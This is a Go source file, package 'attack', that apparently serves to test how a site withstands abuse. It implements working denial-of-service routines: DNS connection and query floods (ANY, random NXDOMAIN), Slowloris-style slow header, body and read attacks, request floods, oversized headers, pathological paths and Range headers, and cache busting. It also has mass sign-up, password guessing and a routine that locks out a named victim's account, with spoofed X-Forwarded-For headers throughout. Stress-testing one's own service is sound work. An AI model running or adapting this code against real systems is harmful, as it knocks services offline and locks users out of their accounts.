package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	random "math/rand/v2"
	"net"
	"net/http"
	"strings"
	"time"
)

// Abuse is one way to demand more from the site than its limits allow.
type Abuse struct {
	Name string
	Says string
	do   func(context.Context, *session)
}

// All lists the abuses in the order of a request's path: name server, connections, requests, accounts, posts.
var All = []Abuse{
	{"dns-idle", "16,000 TCP connections to dns that say nothing", func(ctx context.Context, s *session) { s.hold(ctx, s.DNS, 16_000, "", "", 0) }},
	{"dns-half", "4,000 TCP connections to dns with half a query", func(ctx context.Context, s *session) { s.hold(ctx, s.DNS, 4_000, "\x00\xff\x12", "\x00", time.Second) }},
	{"dns-any", "4,000 queries a second for ANY", func(ctx context.Context, s *session) {
		s.lookups(ctx, 4_000, 255, func() string { return strings.TrimPrefix(s.Host, "www.") })
	}},
	{"dns-nxdomain", "4,000 queries a second for long names that are not there", func(ctx context.Context, s *session) {
		s.lookups(ctx, 4_000, 1, func() string {
			return strings.Repeat(strings.ToLower(rand.Text()[:20])+".", 8) + strings.TrimPrefix(s.Host, "www.")
		})
	}},
	{"idle", "2,000 connections to web that say nothing", func(ctx context.Context, s *session) { s.hold(ctx, s.Web, 2_000, "", "", 0) }},
	{"kept", "2,000 connections that asked once and are kept open", func(ctx context.Context, s *session) {
		s.hold(ctx, s.Web, 2_000, "GET /site.css HTTP/1.1\r\nHost: "+s.Host+"\r\nX-Forwarded-For: "+s.From+"\r\n\r\n", "", 0)
	}},
	{"slow-header", "2,000 connections with a header that never ends, a field a second", func(ctx context.Context, s *session) {
		s.hold(ctx, s.Web, 2_000, "GET / HTTP/1.1\r\nHost: "+s.Host+"\r\nX-Forwarded-For: "+s.From+"\r\n", "X-Slow: 1\r\n", time.Second)
	}},
	{"slow-body", "500 connections with a body of a byte a second", func(ctx context.Context, s *session) {
		s.hold(ctx, s.Web, 500, "POST /api/v1/posts HTTP/1.1\r\nHost: "+s.Host+"\r\nX-Forwarded-For: "+s.From+"\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", " ", time.Second)
	}},
	{"slow-read", "200 connections that ask for pages and do not read them", func(ctx context.Context, s *session) {
		s.hold(ctx, s.Web, 200, strings.Repeat("GET /api/v1/posts?limit=100 HTTP/1.1\r\nHost: "+s.Host+"\r\nX-Forwarded-For: "+s.From+"\r\n\r\n", 20), "", 15*time.Second)
	}},
	{"flood", "as many requests as 64 connections can ask", func(ctx context.Context, s *session) {
		loop(ctx, 64, 0, func(i int) { s.ask(ctx, http.MethodGet, []string{"/", "/api/v1/posts", "/nothing"}[i%3], nil, nil) })
	}},
	{"headers", "headers of 16 kB and of a hundred fields", func(ctx context.Context, s *session) {
		loop(ctx, 16, 20, func(i int) {
			s.ask(ctx, http.MethodGet, "/api/v1/posts", nil, func(r *http.Request) {
				if i%2 == 0 {
					r.Header.Set("Cookie", "session="+strings.Repeat("a", 7_000)+"; x="+strings.Repeat("b", 9_000))
				}
				for n := range 100 {
					r.Header.Set(fmt.Sprintf("X-Field-%d", n), "1")
				}
			})
		})
	}},
	{"paths", "addresses made to be slow to match: dots, slashes, escapes, ranges", func(ctx context.Context, s *session) {
		paths := []string{strings.Repeat("/.%2e", 500), strings.Repeat("/%2541", 700), "/posts/" + strings.Repeat("9", 4_000), "/api/" + strings.Repeat("a/../", 700), "/" + strings.Repeat("%f0%9f%98%80", 300)}
		loop(ctx, 16, 20, func(i int) {
			s.ask(ctx, http.MethodGet, "/", nil, func(r *http.Request) {
				r.URL.Opaque = "//" + s.Web + paths[i%len(paths)]
				r.Header.Set("Range", "bytes="+strings.TrimSuffix(strings.Repeat("0-1,", 1_000), ","))
				r.Header.Set("Accept-Encoding", "gzip")
			})
		})
	}},
	{"cache-keys", "pages of posts under changing ports and spellings", func(ctx context.Context, s *session) {
		loop(ctx, 16, 10, func(i int) {
			s.ask(ctx, http.MethodGet, fmt.Sprintf("/api/v1/posts?limit=%0*d", 1+i%3, 100-i%3), nil, func(r *http.Request) { r.Host = fmt.Sprintf("%s:%d", s.Host, 1+i%65_000) })
		})
	}},
	{"deep-pages", "pages of 100 posts from everywhere in the table", func(ctx context.Context, s *session) {
		loop(ctx, 32, 0, func(int) {
			s.ask(ctx, http.MethodGet, fmt.Sprintf("/api/v1/posts?limit=100&before=%d", 1+random.IntN(s.Posts)), nil, nil)
		})
	}},
	{"search", "eight searches at once, for words of every post", func(ctx context.Context, s *session) {
		loop(ctx, 8, 0, func(i int) {
			s.ask(ctx, http.MethodGet, []string{"/api/v1/search?q=posts+words+many", "/api/v1/search?q=written+here"}[i%2], nil, nil)
		})
	}},
	{"large-bodies", "bodies of 10 MB, and 64 at once of just what is taken", func(ctx context.Context, s *session) {
		loop(ctx, 64, 1, func(i int) {
			size := 128<<10 - 100
			if i%8 == 0 {
				size = 10 << 20
			}
			s.ask(ctx, http.MethodPost, "/api/v1/posts", map[string]string{"title": "A note", "body": strings.Repeat("a", size)}, nil)
		})
	}},
	{"sign-up", "an address that signs up again and again", func(ctx context.Context, s *session) {
		loop(ctx, 8, 5, func(int) {
			s.ask(ctx, http.MethodPost, "/api/v1/accounts", map[string]string{"email": strings.ToLower(rand.Text()[:12]) + "@example.com", "name": "Somebody", "password": rand.Text()}, nil)
		})
	}},
	{"guess", "passwords guessed from one network, of many accounts", func(ctx context.Context, s *session) {
		loop(ctx, 8, 5, func(i int) {
			s.ask(ctx, http.MethodPut, "/api/v1/session", map[string]string{"email": fmt.Sprintf("author%d@example.com", i), "password": rand.Text()}, nil)
		})
	}},
	{"lock-out", "passwords of the visitor's account guessed, every 0.2 s", func(ctx context.Context, s *session) {
		loop(ctx, 1, 5, func(int) {
			s.ask(ctx, http.MethodPut, "/api/v1/session", map[string]string{"email": account(s.Victim), "password": rand.Text()}, nil)
		})
	}},
	{"posts", "one account that writes long posts as fast as it is let", func(ctx context.Context, s *session) {
		cookie := s.signIn(ctx, strings.ToLower(rand.Text()[:12])+"@example.com", rand.Text())
		body := strings.Repeat("What is written here is long. ", 20_000/30) // the longest that is accepted
		loop(ctx, 8, 10, func(int) {
			s.ask(ctx, http.MethodPost, "/api/v1/posts", map[string]string{"title": "A long note", "body": body}, func(r *http.Request) { r.Header.Set("Cookie", cookie) })
		})
	}},
	{"keys", "one account with idempotency keys: the same one at once, and ever new ones", func(ctx context.Context, s *session) {
		cookie := s.signIn(ctx, strings.ToLower(rand.Text()[:12])+"@example.com", rand.Text())
		loop(ctx, 16, 5, func(i int) {
			s.ask(ctx, http.MethodPost, "/api/v1/posts", map[string]string{"title": "A note", "body": "Written at once."}, func(r *http.Request) {
				r.Header.Set("Cookie", cookie)
				r.Header.Set("Idempotency-Key", "the-same-one-again")
				if i%2 == 0 {
					r.Header.Set("Idempotency-Key", rand.Text())
				}
			})
		})
	}},
}

// Play carries out the abuse until ctx ends.
func (a Abuse) Play(ctx context.Context, target Target) Result {
	s := newSession(target)
	a.do(ctx, s)
	return s.result(nil)
}

// hold keeps many connections to an address open, and reopens any that is closed. On each connection it sends the parameter
// first once, and then the parameter more at intervals of every. If more is empty, it reads until the other side closes or,
// if every is set, waits that long without reading.
func (s *session) hold(ctx context.Context, address string, many int, first, more string, every time.Duration) {
	loop(ctx, many, 1, func(int) {
		connection, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", address)
		if err != nil {
			s.count("not connected", true)
			return
		}
		defer connection.Close()
		defer context.AfterFunc(ctx, func() { connection.Close() })()
		s.count("connected", false)
		if _, err := io.WriteString(connection, first); err != nil {
			return
		}
		switch {
		case more == "" && every == 0: // until the other side closes
			io.Copy(io.Discard, connection)
			return
		case more == "": // reading nothing
			select {
			case <-ctx.Done():
			case <-time.After(every):
			}
			return
		}
		tick := time.NewTicker(every)
		defer tick.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
			if _, err := io.WriteString(connection, more); err != nil {
				return
			}
		}
	})
}

// lookups sends queries over UDP and does not wait for their answers.
func (s *session) lookups(ctx context.Context, rate int, kind uint16, name func() string) {
	connection, err := net.Dial("udp", s.DNS)
	if err != nil {
		s.count("not connected", true)
		return
	}
	defer connection.Close()
	defer context.AfterFunc(ctx, func() { connection.Close() })()
	go func() {
		for buffer := make([]byte, 4096); ; {
			if _, err := connection.Read(buffer); err != nil {
				return
			}
			s.count("answered", false)
		}
	}()
	loop(ctx, 1, 100, func(i int) {
		for range rate / 100 {
			if _, err := connection.Write(query(name(), kind)); err != nil && ctx.Err() == nil {
				s.count("not sent", true)
			}
		}
	})
}

// query returns a DNS message that asks for a name (RFC 1035, section 4.1).
func query(name string, kind uint16) []byte {
	message := binary.BigEndian.AppendUint16(nil, uint16(random.Uint32()))
	message = append(message, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	for label := range strings.SplitSeq(name, ".") {
		message = append(append(message, byte(len(label))), label...)
	}
	message = binary.BigEndian.AppendUint16(append(message, 0), kind)
	return binary.BigEndian.AppendUint16(message, 1)
}
